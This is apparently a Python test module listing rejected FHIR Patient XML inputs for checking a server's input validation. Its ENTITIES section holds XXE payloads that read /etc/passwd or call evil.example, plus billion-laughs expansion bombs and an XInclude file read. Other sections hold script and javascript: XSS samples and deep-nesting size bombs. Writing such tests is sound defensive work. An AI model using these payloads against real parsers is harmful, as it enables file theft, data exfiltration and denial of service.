"""F-046 to F-055; rows on JSON bodies, in XML (F-...-xml); what only XML can get wrong (X-...)."""

from __future__ import annotations

from tests.badinput.orders import CANARY
from tests.badinput.row import Row

NS = 'xmlns="http://hl7.org/fhir"'
XHTML = 'xmlns="http://www.w3.org/1999/xhtml"'
_MIB = 2**20


def patient(inside: str, before: str = "", attributes: str = NS) -> bytes:
    return f"{before}<Patient {attributes}>{inside}</Patient>".encode()


def _entities(name: str, declared: str) -> bytes:
    return patient(f'<name><text value="&{name};"/></name>', f"<!DOCTYPE Patient [{declared}]>")


def _narrated(inside: str, attributes: str = XHTML) -> bytes:
    return patient(f'<text><status value="generated"/><div {attributes}>{inside}</div></text>')


def _extension(levels: int) -> bytes:
    opened = '<extension url="http://e.example/x">' * levels
    return patient(f'{opened}<valueBoolean value="true"/>{"</extension>" * levels}')


def _named(text: str) -> bytes:
    return patient(f'<name><text value="{text}"/></name>')


def _born_as(number: str) -> bytes:
    return patient(f'<multipleBirthInteger value="{number}"/>')


def _measured(number: str) -> bytes:
    return patient(f'<extension url="http://e.example/x"><valueDecimal value="{number}"/></extension>')


def _no(id_: str, what: str, body: bytes, code: str = "structure", path: str | None = None) -> Row:
    return Row(id_, what, body, "INCORRECT", code, path, "Patient")


def _rule(id_: str, what: str, body: bytes, code: str, path: str | None = None) -> Row:
    return Row(id_, what, body, "UNPROCESSABLE", code, path, "Patient")


def _other(id_: str, what: str, body: bytes) -> Row:
    return Row(id_, what, body, "UNSUPPORTED", "not-supported", "", "Patient")


def _large(id_: str, what: str, body: bytes, code: str = "too-costly") -> Row:
    return Row(id_, what, body, "TOO_LARGE", code, None, "Patient")


_BIRTH = '<birthDate value="1990-05-01"/>'
_GOOD = patient(_BIRTH)
_LAUGHS = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
_CHAIN = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "&a{n - 1};">' for n in range(1, 30_000))

ENTITIES = (
    _no("F-046", "DOCTYPE", patient(_BIRTH, "<!DOCTYPE Patient>"), path=""),
    _no("F-046b", "DOCTYPE elsewhere", patient(_BIRTH, '<!DOCTYPE Patient SYSTEM "http://evil.example/">')),
    _no("F-046c", "DOCTYPE after a comment", patient(_BIRTH, "<!-- a --><!DOCTYPE Patient>")),
    _no("F-047", "external entity in a file", _entities("e", '<!ENTITY e SYSTEM "file:///etc/passwd">')),
    _no(
        "F-048",
        "external entity at a URL",
        _entities("e", f'<!ENTITY e SYSTEM "http://evil.example/{CANARY}">'),
    ),
    _no("F-048b", "parameter entity", _entities("e", '<!ENTITY % e SYSTEM "http://evil.example/"> %e;')),
    _no("F-049", "internal entity in an attribute", _entities("e", '<!ENTITY e "1">')),
    _no("F-050", "billion laughs", _entities("a9", _LAUGHS)),
    _no("F-050b", "one long entity, often", _entities("e;" * 10_000 + "&e", f'<!ENTITY e "{"a" * 50_000}">')),
    _no("F-050c", "30 000 entities, each of the one before", _entities("a29999", _CHAIN)),
    _no("X-001", "entity of HTML", _narrated("a&nbsp;b"), path="Patient.text.div"),
    _no(
        "F-051",
        "XInclude",
        patient('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'),
        path="Patient",
    ),
    _no("F-051b", "stylesheet instruction", patient(_BIRTH, '<?xml-stylesheet href="evil.xsl"?>')),
)
"""What has been used to make XML parsers read or grow."""

NAMES = (
    _no("F-052", "wrong namespace", patient(_BIRTH, attributes='xmlns="urn:hl7-org:v3"'), path=""),
    _no("F-052b", "no namespace", patient(_BIRTH, attributes="")),
    _no("F-052c", "wrong case of the namespace", patient(_BIRTH, attributes='xmlns="http://HL7.org/fhir"')),
    _no("F-052d", "wrong case of the type", b"<patient " + NS.encode() + b"/>"),
    _rule(
        "F-052e",
        "wrong case of an element",
        patient('<birthdate value="1"/>'),
        "structure",
        "Patient.birthdate",
    ),
    _no("F-052f", "an element of nowhere", patient('<active xmlns="" value="true"/>'), path="Patient"),
    _no("F-052g", "prefix of nowhere", patient('<f:active value="true"/>')),
    _no("X-002", "div without its namespace", patient("<text><div>a</div></text>"), path="Patient.text.div"),
    _rule("F-023-xml", "unknown element", patient('<foo value="1"/>'), "structure", "Patient.foo"),
    _rule("F-023b-xml", "unknown element within", patient('<name><foo value="1"/></name>'), "structure"),
    _rule("F-023c-xml", "a choice without its type", patient('<deceased value="true"/>'), "structure"),
    _rule(
        "F-023d-xml", "a name that is no name", patient(f'<{"x" * 70} value="1"/>'), "structure", "Patient"
    ),
    _no("F-025-xml", "a type that R4 has not", b"<Banana " + NS.encode() + b"/>", path=""),
    _rule(
        "X-003",
        "a type that is not in the tables",
        patient(f"<contained><Account><id value='a'/></Account></contained>{_BIRTH}"),
        "not-supported",
        "Patient.contained[0]",
    ),
    _no("X-004", "nothing contained", patient("<contained/>"), path="Patient.contained[0]"),
    _no("X-004b", "a datatype contained", patient("<contained><Period/></contained>")),
    _no(
        "X-004c",
        "two resources contained as one",
        patient("<contained><Patient><active value='true'/></Patient><Patient/></contained>"),
        path="Patient.contained[0]",
    ),
)

PLACES = (
    _no(
        "X-005",
        "elements out of order",
        patient('<birthDate value="1990"/><gender value="male"/>'),
        path="Patient.gender",
    ),
    _no(
        "X-005b",
        "a repeated element apart from its like",
        patient('<name><given value="a"/><suffix value="b"/><given value="c"/></name>'),
        path="Patient.name[0].given",
    ),
    _no("X-005c", "id after meta", patient('<language value="de"/><id value="a"/>'), path="Patient.id"),
    _no("F-005-xml", "an element twice", patient(f"{_BIRTH}{_BIRTH}"), path="Patient.birthDate"),
    _no(
        "F-006-xml",
        "an element twice within",
        patient('<identifier><value value="a"/><value value="b"/></identifier>'),
        path="Patient.identifier[0].value",
    ),
    _no("F-005b-xml", "an attribute twice", patient('<birthDate value="1990" value="1991"/>')),
    _rule(
        "F-041-xml",
        "two types of one choice",
        patient('<deceasedBoolean value="true"/><deceasedDateTime value="2020"/>'),
        "structure",
        "Patient.deceased",
    ),
    _no(
        "X-006",
        "id as an attribute",
        patient(_BIRTH, attributes=f'{NS} id="a"'),
        path="Patient",
    ),
    _no("X-006b", "value on a datatype", patient('<name value="Anna"/>'), path="Patient.name[0]"),
    _no("X-006c", "url on what is no extension", patient('<name url="http://e.example"/>')),
    _no("X-006d", "unknown attribute", patient(f'<birthDate foo="{CANARY}" value="1990"/>')),
    _no(
        "X-006e",
        "schemaLocation",
        patient(
            _BIRTH,
            attributes=f'{NS} xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="a b"',
        ),
    ),
    _no("X-006f", "xml:lang outside a narrative", patient('<name xml:lang="de"><text value="a"/></name>')),
    _no("X-007", "text between elements", patient(f"{CANARY}{_BIRTH}"), path="Patient"),
    _no("X-007b", "text in CDATA", patient(f"<![CDATA[{CANARY}]]>{_BIRTH}"), path="Patient"),
    _no("F-053", "element without value", patient("<birthDate/>"), path="Patient.birthDate"),
    _no("F-053b", "value as text", patient(f"<birthDate>{CANARY}</birthDate>"), path="Patient.birthDate"),
    _no("F-053c", "empty datatype", patient("<name></name>"), path="Patient.name[0]"),
    _no("F-053d", "empty contained element", patient("<name><period> </period></name>")),
    _rule(
        "F-053e",
        "extension without url",
        patient("<extension><valueCode value='a'/></extension>"),
        "required",
    ),
)

_NO_NUMBERS = ("one", "01", "1_0", "0x1", " ", "--1", "+", "1.", ".5", "1 0", "\u0663", "Infinity")
_DECIMAL = "Patient.extension[0].value"

VALUES = (
    _no("F-020-xml", "empty value", patient('<birthDate value=""/>'), "value", "Patient.birthDate"),
    _no("F-020b-xml", "blank value", patient('<birthDate value=" "/>'), "value", "Patient.birthDate"),
    _no(
        "F-020c-xml",
        "empty id",
        patient('<name id=""><text value="a"/></name>'),
        "value",
        "Patient.name[0].id",
    ),
    _no("F-020d-xml", "blank url", patient('<extension url=" "/>'), "value", "Patient.extension[0].url"),
    _no("X-008", "boolean in capitals", patient('<active value="TRUE"/>'), "value", "Patient.active"),
    _no("X-008b", "boolean as a number", patient('<active value="1"/>'), "value", "Patient.active"),
    *(
        _no(f"X-009-{at}", f"{text!a} for a whole number", _born_as(text), "value", "Patient.multipleBirth")
        for at, text in enumerate(_NO_NUMBERS)
    ),
    _no("X-009b", "a fraction for a whole number", _born_as("1.5"), "structure", "Patient.multipleBirth"),
    _no("F-016-xml", "1e400", _measured("1e400"), "value", _DECIMAL),
    _no("F-016b-xml", "NaN", _measured("NaN"), "value", _DECIMAL),
    _no("F-016c-xml", "plus sign in a decimal", _measured("+1.5"), "value", _DECIMAL),
    _no("F-017-xml", "10 000 digits", _measured("9" * 10_000), "value", _DECIMAL),
    _rule("F-013-xml", "string above 1 MiB", _named("x" * (_MIB + 1)), "too-long", "Patient.name[0].text"),
    _rule("F-013b-xml", "narrative above 1 MiB", _narrated("x" * _MIB), "too-long", "Patient.text.div"),
    _rule("F-031-xml", "code that R4 has not", patient('<gender value="robot"/>'), "code-invalid"),
    _rule("F-032-xml", "no date of the calendar", patient('<birthDate value="2023-02-30"/>'), "value"),
    _no("F-010-xml", "half of a surrogate pair by reference", _named("a&#xd800;")),
    _no("F-011-xml", "NUL by reference", _named("a&#0;")),
    _no("F-012-xml", "control character by reference", _named("a&#27;")),
    _no("F-012b-xml", "control character", _named("a\x1b")),
    _no("X-010", "U+FFFF by reference", _named("a&#xffff;")),
)

_PREFIXED = XHTML.replace("=", ":h=")
_DIV = "Patient.text.div"

NARRATIVES = (
    _rule("F-036-xml", "script", _narrated("<script>x</script>"), "invariant", _DIV),
    _rule("F-036b-xml", "event handler", _narrated('<p onclick="x()">a</p>'), "invariant", _DIV),
    _rule(
        "F-036c-xml",
        "javascript:",
        _narrated('<a href="javascript:x()">a</a>'),
        "invariant",
        "Patient.text.div",
    ),
    _rule("F-036d-xml", "svg", _narrated('<svg xmlns="http://www.w3.org/2000/svg"/>'), "invariant"),
    _rule("F-036e-xml", "attribute of nowhere", _narrated('<p x:y="a" xmlns:x="urn:x">a</p>'), "invariant"),
    _rule(
        "F-036f-xml",
        "script under a prefix",
        _narrated(f"<h:script {XHTML.replace('=', ':h=')}/>"),
        "invariant",
    ),
    _rule("X-011", "blank narrative", _narrated(" <!-- a --> "), "invariant", _DIV),
    _no("X-011b", "another element for the div", patient(f"<text><p {XHTML}>a</p></text>")),
)

DOCUMENTS = (
    _no("F-001-xml", "empty body", b"", path=""),
    _no("F-001b-xml", "blank body", b" \r\n"),
    _no("F-002-xml", "JSON", b'{"resourceType":"Patient"}'),
    _no("F-003-xml", "cut short", _GOOD[:-3]),
    _no("F-003b-xml", "tags crossed", patient("<name><period></name></period>")),
    _no("F-004-xml", "two roots", _GOOD + _GOOD),
    _no("F-004b-xml", "text after the root", _GOOD + b"x"),
    _no("F-009-xml", "no UTF-8", _named("\u00ff").replace(b"\xc3\xbf", b"\xff"), path=""),
    _no("F-009b-xml", "surrogate as UTF-8", _named("?").replace(b"?", b"\xed\xa0\x80")),
    _other("F-008-xml", "UTF-16", _GOOD.decode().encode("utf-16")),
    _other("F-008b-xml", "UTF-16 without mark", _GOOD.decode().encode("utf-16-le")),
    _other("F-055", "UTF-7 declared", b'<?xml version="1.0" encoding="UTF-7"?>' + _GOOD),
    _other("F-055b", "UTF-16 declared in UTF-8", b'<?xml version="1.0" encoding="UTF-16"?>' + _GOOD),
    _other("F-055c", "Latin 1 declared", b'<?xml version="1.0" encoding="ISO-8859-1"?>' + _GOOD),
    _no("F-055d", "EBCDIC", b'<?xml version="1.0" encoding="IBM037"?>'.decode().encode("cp037")),
    _other("X-012", "XML 1.1", b'<?xml version="1.1"?>' + _GOOD),
    _no("F-014-xml", "extensions 65 deep", _extension(65), "too-costly"),
    _no("F-054", "10 000 levels", b"<a>" * 10_000),
    _no("F-054b", "10 000 levels of our own", _extension(10_000), "too-costly"),
    _large("F-043-xml", "resource above 8 MiB", patient(f"<!--{'x' * 8 * _MIB}-->"), "too-long"),
    _large("X-013", "a million tags", b"<a>" * 1_000_001),
    _large("X-013b", "a million attributes", b"<a " + b"b=''" * 1_000_001 + b"/>"),
    _large(
        "X-013c",
        "JSON that would not read back: a million commas",
        patient(f'<name><text value="{"," * 600_000}"/></name>' * 2),
    ),
    _large(
        "X-013d",
        "JSON longer than the limit",
        patient('<name><text value="{}"/></name>'.format("\\" * 900_000) * 7),
        "too-long",
    ),
)

REFUSED: tuple[Row, ...] = ENTITIES + NAMES + PLACES + VALUES + NARRATIVES + DOCUMENTS
